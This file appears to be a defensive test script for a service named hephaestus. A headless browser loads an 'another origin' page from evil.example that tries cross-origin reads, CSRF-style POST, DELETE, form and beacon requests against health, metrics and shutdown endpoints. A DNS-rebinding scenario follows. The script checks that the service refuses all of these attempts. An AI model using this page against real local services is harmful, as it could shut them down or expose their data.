#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A page of another origin in a real browser, trying every endpoint of a service by every means a page has, and the same page once more
after its name was rebound to the service. Nothing may change and no body may be read. A relay between the two tells what arrived by which
means, and the service's own metrics what it refused. Needs chromium (Debian: apt-get install chromium).

  tests/hostile/browser.py build/debug/bin/hephaestus serve --listen 127.0.0.1:0
"""
import collections
import http.client
import http.server
import json
import os
import queue
import signal
import subprocess
import sys
import tempfile
import threading
import time
from urllib.parse import parse_qs, urlsplit

READS = ["/health", "/health/live", "/health/ready", "/health/status", "/health/openapi.json", "/metrics", "/health/logs?tail=5"]
CHANGES = ["/health/shutdown", "/shutdown", "/health/shutdown/schedule", "/health/restart", "/health/check"]
READING = ["fetch", "fetch no-cors", "image", "script", "frame"]
CHANGING = ["post JSON", "post no-cors", "delete", "form", "beacon"]
PATIENCE = 60

PAGE = """<!doctype html><title>another origin</title><body><script>
const target = %(target)s, reads = %(reads)s, changes = %(changes)s, isRebound = %(rebound)s;
const results = [];
const within = promise => Promise.race([promise, new Promise(done => setTimeout(() => done('no end'), 3000))]);
async function attempt(what, path, work) {
  const url = target + path + (path.includes('?') ? '&' : '?') + 'by=' + encodeURIComponent(what);
  let read = 0, note = '';
  try { const got = await within(work(url)); if (typeof got === 'number') read = got; else note = String(got); } catch (error) { note = String(error); }
  results.push({what, path, read, note});
}
async function fetched(url, options) {
  const answer = await fetch(url, options);
  if (answer.type !== 'opaque' && !answer.ok) return 'status ' + answer.status; // its own words to a refused client hold nothing
  return (await answer.text()).length;
}
const framed = begin => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  document.body.append(frame); // loads about:blank at once
  frame.onload = () => { try { const text = frame.contentDocument.body.innerText;
    done(text.includes('uptime_seconds') || text.includes('shutdown_') ? text.length : 0); } catch (error) { done(String(error)); } };
  begin(frame);
});
const loaded = (tag, url) => new Promise(done => {
  const one = document.createElement(tag);
  one.onload = () => done(tag === 'img' ? one.naturalWidth : 0);
  one.onerror = () => done('refused');
  one.src = url;
  document.body.append(one);
});
function post(frame, url) {
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: url, target: frame.name, enctype: 'text/plain'});
  document.body.append(form);
  form.submit();
}
(async () => {
  if (isRebound) await fetch('/rebind'); // from here on the name leads to the service
  const all = [];
  for (const path of reads.concat(changes)) {
    all.push(attempt('fetch no-cors', path, url => fetched(url, {mode: 'no-cors'})));
    all.push(attempt('fetch', path, url => fetched(url, {})));
    all.push(attempt('image', path, url => loaded('img', url)));
    all.push(attempt('script', path, url => loaded('script', url)));
    all.push(attempt('frame', path, url => framed(frame => { frame.src = url; })));
  }
  for (const path of changes) {
    all.push(attempt('post no-cors', path, url => fetched(url, {method: 'POST', mode: 'no-cors', body: '{}'})));
    all.push(attempt('post JSON', path, url => fetched(url, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})));
    all.push(attempt('delete', path, url => fetched(url, {method: 'DELETE'})));
    all.push(attempt('form', path, url => framed(frame => post(frame, url))));
    all.push(attempt('beacon', path, async url => { navigator.sendBeacon(url, '{}'); return 0; }));
  }
  await Promise.all(all);
  await fetch(%(report)s, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
})();
</script>"""


class Server(http.server.ThreadingHTTPServer):
    """What the browser talks to, in a thread of its own until the end."""
    daemon_threads = True

    def __init__(self, address, handler):
        super().__init__(address, handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        pass  # a browser that is ended resets its connections


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def content(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def reply(self, status, body=b""):
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Attacker(Server):
    """Serves the page and takes its report."""

    def __init__(self):
        self.page, self.reports = b"", queue.Queue()
        super().__init__(("127.0.0.1", 0), self.Handler)

    class Handler(Quiet):
        def do_GET(self):
            self.reply(200, self.server.page)

        def do_POST(self):
            self.server.reports.put(json.loads(self.content()))
            self.reply(200)


class Relay(Server):
    """Hands requests on to the service as they are, and counts them by the means that sent them, their method and the status they got. With a
    page it is the attacker's name before it was rebound: it gives the page to whoever asks, until /rebind."""

    def __init__(self, address, service, page=None):
        self.service, self.page, self.lock, self.seen = service, page, threading.Lock(), collections.Counter()
        super().__init__(address, self.Handler)

    def count(self, means=None, matches=lambda method, status: True):
        with self.lock:
            return sum(count for (by, method, status), count in self.seen.items() if means in (None, by) and matches(method, status))

    class Handler(Quiet):
        def pass_on(self):
            relay, body = self.server, self.content()
            if (page := relay.page) is not None:
                if self.path == "/rebind":
                    relay.page = None  # before the answer: the page goes on as soon as it has it
                self.reply(200, page)
                return
            connection = http.client.HTTPConnection("127.0.0.1", relay.service, timeout=10)
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                connection.putheader(name, value)
            connection.endheaders(body or None)
            answer = connection.getresponse()
            content = answer.read()
            with relay.lock:
                relay.seen[(parse_qs(urlsplit(self.path).query).get("by", ["?"])[0], self.command, answer.status)] += 1
            self.send_response_only(answer.status)
            for name, value in answer.getheaders():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(content)
            connection.close()

        do_GET = do_POST = do_DELETE = do_OPTIONS = pass_on


def get(port, path):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", path)
    return connection.getresponse().read()


def refusals(port):
    lines = get(port, "/metrics").decode().splitlines()
    return sum(float(line.split()[-1]) for line in lines if line.startswith("hephaestus_refused_requests_total{"))


def browse(url, attacker, until):
    """The page's report, once what it does not wait for itself has arrived too."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        browser = subprocess.Popen(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}",
                                    "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.2", "--remote-debugging-port=0", url],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            report = attacker.reports.get(timeout=PATIENCE)
            deadline = time.monotonic() + 5
            while not until() and time.monotonic() < deadline:
                time.sleep(0.05)
            return report
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()


def judge(name, port, url, attacker, relay, may_pass):
    """Lets the browser loose on the page at `url`; `may_pass`: the methods that change nothing and need not be refused."""
    before, counted = json.loads(get(port, "/health/status")), refusals(port)
    results = browse(url, attacker, lambda: relay.count("form") + relay.count("beacon") >= 2 * len(CHANGES))
    after = json.loads(get(port, "/health/status"))
    counted = refusals(port) - counted
    print(f"{name}: {len(results)} attempts; /metrics counts {counted:.0f} refusals")
    wrong = []
    for means in READING + CHANGING:
        mine = [one for one in results if one["what"] == means]
        arrived = relay.count(means)
        refused = relay.count(means, lambda _, status: status == 403)
        passed = relay.count(means, lambda method, status: status != 403 and method not in may_pass)
        print(f"  {means:14} {len(mine):3} attempts {arrived:3} requests arrived {refused:3} refused {sum(bool(one['read']) for one in mine):3} bodies read")
        if arrived < len(mine):
            wrong.append(f"only {arrived} of {len(mine)} by {means} came to the service")
        if passed:
            wrong.append(f"{passed} by {means} were not refused")
    wrong += [f"{one['what']} {one['path']} was read" for one in results if one["read"]]
    wrong += [f"{key} is now {after[key]}" for key in ("instance_id", "status", "should_shutdown") if before[key] != after[key]]
    if not counted or counted != relay.count(matches=lambda _, status: status == 403):
        wrong.append(f"/metrics counts {counted:.0f} refusals, which is not what was answered")
    for one in wrong:
        print("wrong: " + one)
    return not wrong


def main():
    if len(sys.argv) < 2 or sys.argv[1].startswith("-"):
        print(__doc__)
        return 2
    service = subprocess.Popen(sys.argv[1:], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        port = urlsplit(service.stdout.readline().split()[-1]).port
        attacker = Attacker()
        report = f"http://evil.example:{attacker.server_port}/report"

        def page(target, rebound):
            return (PAGE % {"target": json.dumps(target), "reads": json.dumps(READS), "changes": json.dumps(CHANGES), "rebound": json.dumps(rebound),
                            "report": json.dumps(report)}).encode()

        relay = Relay(("127.0.0.1", 0), port)
        attacker.page = page(f"http://127.0.0.1:{relay.server_port}", False)
        passed = [judge("another origin", port, f"http://evil.example:{attacker.server_port}/", attacker, relay, ("GET", "OPTIONS"))]
        rebound = Relay(("127.0.0.2", port), port, page("", True))
        passed.append(judge("DNS rebinding", port, f"http://rebound.example:{port}/", attacker, rebound, ()))
        if service.poll() is not None:
            print(f"wrong: the service ended with {service.returncode}")
        return 0 if all(passed) and service.poll() is None else 1
    finally:
        service.terminate()
        service.wait()


if __name__ == "__main__":
    sys.exit(main())
